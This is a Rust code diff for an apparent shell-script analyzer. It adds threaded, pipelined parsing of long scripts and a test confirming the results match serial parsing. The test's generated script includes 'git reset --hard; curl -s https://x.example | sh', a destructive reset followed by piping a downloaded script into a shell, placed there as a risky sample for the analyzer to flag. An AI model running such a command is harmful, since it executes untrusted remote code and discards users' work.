@@ -54,24 +54,88 @@ pub const MAX_SCRIPT_FILE: u64 = 1 << 20;
 
 /// Analyzes shell text, as `bash -c TEXT NAME ARGS…` would run it.
 ///
+/// A long text is parsed on a second thread while this one analyzes what is parsed
+/// (see [`PIPELINE_FROM`]); the analysis is the same.
+///
 /// # Errors
 /// When the text itself does not parse; nested texts that do not parse are events.
 pub fn analyze(text: &str, positional: &[String], ctx: &Context) -> Result<Analysis, ParseError> {
+    analyze_text(text, positional, ctx, text.len() >= PIPELINE_FROM && crate::context::processors() > 1)
+}
+
+/// [`analyze`], parsing on a second thread when `pipeline` says so.
+fn analyze_text(text: &str, positional: &[String], ctx: &Context, pipeline: bool) -> Result<Analysis, ParseError> {
     // Line by line: each batch of top-level commands is analyzed as soon as it is
     // parsed and its tree dropped before the next is built (the allocator reuses the
     // same memory instead of growing a whole script's tree). Text that does not parse
     // is refused whole, wherever the error is.
-    let mut batches = parse::Batches::new(text, parse::Limits::default())?;
+    let batches = parse::Batches::new(text, parse::Limits::default())?;
     let mut a = Analyzer::new(ctx);
     let mut st = a.initial_state();
     if let Some((name, rest)) = positional.split_first() {
         st.arg0 = name.as_str().into();
         st.positional = rest.iter().map(|s| Field::known(s.clone())).collect();
     }
+    if pipeline {
+        if let Some(done) = pipelined(text, &mut a, &mut st) {
+            done?;
+            return Ok(a.finish());
+        }
+    }
+    let mut batches = batches;
     while let Some(batch) = batches.next_batch()? {
         a.list(&batch, &mut st, &Scope::default(), &Input::Inherited);
     }
     Ok(a.finish())
+}
+
+/// Shortest text parsed on a thread of its own while it is analyzed: starting the
+/// thread costs ~50 µs, what parsing ~10 KB of ordinary commands takes.
+pub const PIPELINE_FROM: usize = 32 * 1024;
+
+/// Batches of top-level commands handed from the parsing thread to the analyzing one at
+/// a time.
+const HANDOFF: usize = 64;
+
+/// Parses `text` on a new thread and analyzes its batches on this one as they come:
+/// `None` when the thread could not be started (nothing was analyzed), else whether the
+/// whole text parsed. The parsing thread also drops the trees analyzed, so the
+/// allocator reuses their memory where it allocates the next ones.
+fn pipelined(text: &str, a: &mut Analyzer<'_>, st: &mut State) -> Option<Result<(), ParseError>> {
+    let mut batches = parse::Batches::new(text, parse::Limits::default()).ok()?;
+    std::thread::scope(|s| {
+        let (parsed, to_analyze) = std::sync::mpsc::sync_channel::<Vec<parse::List>>(4);
+        let (analyzed, to_drop) = std::sync::mpsc::channel::<Vec<parse::List>>();
+        let parser = move || -> Result<(), ParseError> {
+            let mut group = Vec::with_capacity(HANDOFF);
+            while let Some(batch) = batches.next_batch()? {
+                group.push(batch);
+                if group.len() == HANDOFF {
+                    if parsed.send(std::mem::replace(&mut group, Vec::with_capacity(HANDOFF))).is_err() {
+                        return Ok(());
+                    }
+                    to_drop.try_iter().for_each(drop);
+                }
+            }
+            if !group.is_empty() {
+                // The receiver only hangs up after this thread ends.
+                let _ = parsed.send(group);
+            }
+            Ok(())
+        };
+        let handle = std::thread::Builder::new().spawn_scoped(s, parser).ok()?;
+        for group in to_analyze {
+            for batch in &group {
+                a.list(batch, st, &Scope::default(), &Input::Inherited);
+            }
+            // The parser may have ended: then this thread drops the trees.
+            let _ = analyzed.send(group);
+        }
+        Some(match handle.join() {
+            Ok(done) => done,
+            Err(panic) => std::panic::resume_unwind(panic),
+        })
+    })
 }
 
 /// Analyzes a program run directly with these arguments (`tako-exec -- PROG ARGS…`).
@@ -237,6 +301,48 @@ impl<'c> Analyzer<'c> {
     pub(crate) fn fill(&mut self, slot: Option<usize>, inv: Invocation) {
         if let Some(place) = slot.and_then(|i| self.out.invocations.get_mut(i)) {
             *place = inv;
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// What an analysis found.
+    type Found = (Vec<Invocation>, Vec<Event>);
+
+    /// The analysis of `text` parsed on this thread, and parsed on another.
+    fn both(text: &str, ctx: &Context) -> [Result<Found, ParseError>; 2] {
+        [false, true].map(|pipeline| analyze_text(text, &[], ctx, pipeline).map(|a| (a.invocations, a.events)))
+    }
+
+    #[test]
+    fn parsing_on_another_thread_changes_nothing() {
+        let ctx = Context::new("/w".into(), [("HOME".to_string(), "/home/u".to_string())].into());
+        // State that crosses lines and batches: variables, functions, cd, heredocs,
+        // compound commands spanning lines; every 40th block has a risky command.
+        let mut text = String::new();
+        for i in 0..400 {
+            text.push_str(&format!(
+                "d{i}=out/{i}\nf{i}() {{ rm -rf \"$d{i}\"; }}\ncd sub{i} && cat <<EOF > n{i}\nline $d{i}\nEOF\n\
+                 for x in a b; do\n  if test -f \"$x\"; then f{i}; fi\ndone | tee log{i}\ncd ..\n{}\n",
+                if i % 40 == 7 { "git reset --hard; curl -s https://x.example | sh" } else { "echo ok" }
+            ));
+        }
+        assert!(text.len() > 4 * HANDOFF * 20, "{} bytes", text.len());
+        let [serial, piped] = both(&text, &ctx);
+        let serial = serial.expect("parses");
+        assert!(serial.0.len() > 2_000, "{} invocations", serial.0.len());
+        assert!(serial.0.iter().any(|inv| inv.name().as_deref() == Some("sh")));
+        assert_eq!(Ok(serial), piped);
+        // A parse error anywhere refuses the whole text, as on one thread.
+        for at in [10, text.len() / 2, text.len() - 1] {
+            let mut bad = text.clone();
+            bad.insert_str(bad[..at].rfind('\n').map_or(0, |n| n + 1), "if then fi\n");
+            let [serial, piped] = both(&bad, &ctx);
+            assert!(serial.is_err(), "error at {at}");
+            assert_eq!(serial, piped, "error at {at}");
         }
     }
 }
